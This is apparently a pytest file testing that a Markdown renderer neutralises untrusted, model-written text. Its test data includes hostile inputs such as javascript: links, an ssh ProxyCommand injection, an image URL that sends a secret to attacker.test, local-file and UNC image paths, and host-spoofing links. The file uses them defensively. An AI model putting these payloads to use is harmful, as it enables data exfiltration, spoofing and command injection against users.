"""Markdown as models write it becomes the right tree, and nothing in it can load, run or
deceive."""

import pytest

from app.render.markdown.parser import definitions, parse
from app.render.tree import (
    Code,
    Formula,
    Heading,
    Listing,
    Mark,
    Paragraph,
    Quote,
    Remark,
    Rule,
    Table,
    plain,
)


def only(text):
    (block,) = parse(text)
    return block


def runs(text):
    return [(run.text, int(run.marks)) for run in only(text).runs]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain", [("plain", 0)]),
        ("**bold** it", [("bold", 1), (" it", 0)]),
        ("***both***", [("both", 3)]),
        ("**bold *it* x**", [("bold ", 1), ("it", 3), (" x", 1)]),
        ("~~gone~~ kept", [("gone", 4), (" kept", 0)]),
        ("`code` x", [("code", 8), (" x", 0)]),
        ("``a ` b``", [("a ` b", 8)]),
        ("snake_case_name", [("snake_case_name", 0)]),
        ("2 * 3 * 4", [("2 * 3 * 4", 0)]),
        ("这是**“重点”**的", [("这是", 0), ("“重点”", 1), ("的", 0)]),
        ("**重要(注意)**です", [("重要(注意)", 1), ("です", 0)]),
        ("so \\(x_i * y_i\\) holds", [("so ", 0), ("x_i * y_i", 16), (" holds", 0)]),
        ("let $a_b + c_d$", [("let ", 0), ("a_b + c_d", 16)]),
        ("costs $5 and *then* $10", [("costs $5 and ", 0), ("then", 2), (" $10", 0)]),
        ("\\*not em\\*", [("*not em*", 0)]),
        ("5 &lt; 6 &copy;", [("5 < 6 ©", 0)]),
        ("a\nb", [("a\u2028b", 0)]),
        ("a  \nb", [("a\u2028b", 0)]),
        ("a<br>b", [("a\u2028b", 0)]),
        ("Vec<T> & <b>x</b>", [("Vec<T> & <b>x</b>", 0)]),
        ("<script>alert(1)</script>", [("<script>alert(1)</script>", 0)]),
        ("👩‍💻 ok", [("👩‍💻 ok", 0)]),
    ],
)
def test_runs(text, expected):
    assert runs(text) == expected


def test_blocks_of_every_kind():
    blocks = parse(
        "# T\n\npara\n\n- a\n- b\n\n> q\n\n```py\nx\n```\n\n| h |\n|---|\n| c |\n\n---\n"
    )
    kinds = [type(block) for block in blocks]
    assert kinds == [Heading, Paragraph, Listing, Quote, Code, Table, Rule]


def test_formula_block():
    assert parse("$$\nx^2 \\\\ y\n$$") == (Formula("x^2 \\\\ y"),)


def test_nested_lists_and_numbers():
    listing = only("3. a\n   - b\n     - c\n4. d")
    assert (listing.start, len(listing.items)) == (3, 2)
    inner = listing.items[0].blocks[1]
    assert isinstance(inner, Listing)
    assert inner.start is None
    assert isinstance(inner.items[0].blocks[1], Listing)


def test_bullets_two_spaces_below_a_number_belong_to_it():
    listing = only("1. a\n  - b\n2. c")
    assert len(listing.items) == 2
    assert isinstance(listing.items[0].blocks[1], Listing)


def test_tasks():
    listing = only("- [ ] todo\n- [x] **done**\n- [link](https://e.org)")
    assert [item.is_done for item in listing.items] == [False, True, None]
    assert plain(listing.items[0].blocks[0].runs) == "todo"


def test_tight_and_loose():
    assert only("- a\n- b").is_tight
    assert not only("- a\n\n- b").is_tight


def test_code_in_a_list_keeps_its_indent():
    code = only("- x\n  ```js\n  if (a) {\n    b\n  }\n  ```").items[0].blocks[1]
    assert code == Code("js", "if (a) {\n  b\n}")


def test_table_alignment_and_pipes():
    table = only("| a | b |\n|:-:|--:|\n| `x \\| y` | **2** |\n| only |")
    assert table.alignments == ("center", "right")
    assert [plain(cell) for cell in table.rows[0]] == ["x | y", "2"]
    assert len(table.rows) == 2


# --- links


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("[w](https://en.wikipedia.org/wiki/X_(y))", "https://en.wikipedia.org/wiki/X_(y)"),
        ("<https://example.org/a_b>", "https://example.org/a_b"),
        ("https://example.org/a?c=1&d=2.", "https://example.org/a?c=1&d=2"),
        ("[m](mailto:a@example.org)", "mailto:a@example.org"),
        ("[c](https://аpple.com/)", "https://xn--pple-43d.com/"),
    ],
)
def test_links_that_may_be_opened(text, link):
    assert only(text).runs[0].link == link


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[b](JaVaScRiPt:alert(1))",
        "[c](data:text/html,x)",
        "[d](file:///bin/true)",
        "[e](smb://h/s)",
        "[f](ms-msdt:/id)",
        "[g](search-ms:query=x)",
        "[h](vscode://x)",
        "[i](ssh://-oProxyCommand=calc)",
        "[j](qrc:/x)",
        "[l](calculator://)",
        "[m](ftp://h/x)",
        "[n](about:blank)",
        "[o](//evil.test/x)",
        "[p](relative/path)",
        "[q](https://github.com@evil.test/login)",
        "[r](https://evil.test/\u202egnp.exe)",
        "<javascript:alert(1)>",
        "ftp://example.org/x",
    ],
)
def test_links_that_are_only_text(text):
    assert [run.link for run in only(text).runs] == [""]


def test_a_backslash_before_the_host_is_no_way_round():
    links = {run.link for run in only("[e](https://evil.test\\@github.com/)").runs}
    assert all("github" not in link for link in links)


def test_reference_links_need_their_definition():
    known = definitions('[r]: https://example.org/p "t"')
    (block,) = parse("see [it][r]", known)
    assert block.runs[1].link == "https://example.org/p"
    assert all(not run.link for run in only("see [it][r]").runs)


# --- pictures


def test_images_are_labels():
    (run,) = only("![chart](https://attacker.test/p.png?d=SECRET)").runs
    assert run.text == "chart [image: attacker.test (not loaded)]"
    assert run.marks is Mark.IMAGE
    assert run.hint == "https://attacker.test/p.png?d=SECRET"


def test_reference_images_are_labels_too():
    (run,) = only("![status][r]\n\n[r]: https://attacker.test/p?d=1").runs
    assert run.text == "status [image: attacker.test (not loaded)]"


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/hostname",
        "/etc/hostname",
        "../../etc/hostname",
        "<C:\\Windows\\win.ini>",
        "\\\\attacker.test\\share\\x.png",
    ],
)
def test_images_of_files_have_no_address(address):
    assert all(not run.link for run in only(f"![a]({address})").runs)


# --- hostile input: bounded work, and what was cut is said


def test_quotes_without_end_are_shown_as_text():
    text = ">" * 100_000 + " x"
    paragraph, remark = parse(text)
    assert plain(paragraph.runs).replace("\n", "") == text
    assert "32 levels" in remark.text


def test_lists_without_end_are_shown_as_text():
    text = "\n".join("  " * depth + "- x" for depth in range(200))
    blocks = parse(text)
    assert plain(blocks[0].runs) == text
    assert isinstance(blocks[1], Remark)


def test_a_huge_table_says_what_it_leaves_out():
    text = "|" + "a|" * 10 + "\n|" + "-|" * 10 + "\n" + ("|" + "b|" * 10 + "\n") * 300
    table, remark = parse(text)
    assert len(table.rows) == 199
    assert remark.text == "101 more rows of this table are not drawn."


def test_html_tables_are_text():
    text = "<table><tr><td>" * 24 + "x"
    assert plain(only(text).runs) == text


def test_an_endless_word_is_broken():
    text = plain(only("x" * 10_000).runs)
    assert text.replace("\n", "") == "x" * 10_000
    assert max(map(len, text.split("\n"))) <= 2_000


def test_marks_without_end_keep_every_letter():
    text = "*a _a " * 500 + "[" * 500 + "a" + "](u)" * 500
    assert plain(only(text).runs).replace("\n", "").count("a") == text.count("a")


def test_controls_and_overrides_are_made_visible():
    assert plain(only("a\x1bb \u202ec").runs) == "a\u241bb [U+202E]c"


def test_a_very_wide_table_says_what_it_leaves_out():
    remark, table = parse("|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n|" + "b|" * 100)
    assert len(table.header) == len(table.rows[0]) == 24
    assert remark.text == "76 more columns of this table are not drawn."
